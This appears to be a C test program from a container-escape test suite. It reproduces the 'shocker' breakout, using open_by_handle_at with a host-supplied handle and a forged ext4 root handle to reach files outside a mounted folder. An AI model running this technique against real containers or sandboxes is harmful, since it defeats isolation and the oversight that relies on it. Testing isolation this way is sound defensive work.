/* open_by_handle_at() of a folder outside and of the root of the file system, from a mounted folder: the way out that
 * became known as shocker. */
#include "../escape.h"

int main(void) {
  struct {
    struct file_handle handle;
    unsigned char bytes[128];
  } target = {0};
  /* HANDLE is TYPE:BYTES in hexadecimal, as name_to_handle_at() gave it to the host. */
  const char* text = given("HANDLE");
  char* colon = NULL;
  target.handle.handle_type = (int)strtol(text, &colon, 16);
  while (colon != NULL && colon[0] != '\0' && colon[1] != '\0' && target.handle.handle_bytes < 128) {
    char pair[3] = {colon[1], colon[2], '\0'};
    target.bytes[target.handle.handle_bytes++] = (unsigned char)strtol(pair, NULL, 16);
    colon += 2;
  }
  int here = open(".", O_RDONLY | O_DIRECTORY);
  int fd = (int)syscall(SYS_open_by_handle_at, here, &target.handle, O_RDONLY | O_DIRECTORY);
  if (fd >= 0 && plants(fd, "planted")) escaped("the handle of the folder outside");
  struct {
    struct file_handle handle;
    unsigned char bytes[8];
  } root = {{8, 1}, {2, 0, 0, 0, 0, 0, 0, 0}}; /* inode 2 is the root of ext4 */
  fd = (int)syscall(SYS_open_by_handle_at, here, &root.handle, O_RDONLY | O_DIRECTORY);
  if (fd >= 0) escaped("the handle of the root");
  return judge();
}
